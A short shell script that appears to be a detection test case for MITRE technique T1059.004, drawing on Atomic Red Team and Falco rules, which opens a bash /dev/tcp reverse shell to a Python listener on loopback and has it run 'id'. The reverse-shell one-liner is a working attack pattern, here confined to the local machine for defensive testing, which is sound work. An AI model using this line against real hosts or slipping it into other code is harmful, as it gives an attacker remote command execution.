#!/bin/sh
# case: T1059.004-bash-devtcp-shell
# technique: Shell over a connection that bash opens itself
# source: redcanaryco/atomic-red-team T1059.004-1 (reverse shell); falcosecurity/rules Redirect STDOUT/STDIN to Network Connection in Container
# needs: bash python3
# expect: exec net
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need bash python3
P=$((20000 + $$ % 20000)); python3 -c 'import socket,sys,time
s=socket.socket();s.setsockopt(1,2,1);s.bind(("127.0.0.1",int(sys.argv[1])));s.listen(1);s.settimeout(8)
c,_=s.accept();c.sendall(b"id\nexit\n");time.sleep(.5);c.close()' "$P" & S=$!
sleep 1; bash -c "exec 5<>/dev/tcp/127.0.0.1/$P; sh <&5 >&5 2>&1"; wait "$S" 2>/dev/null; true
exit 0
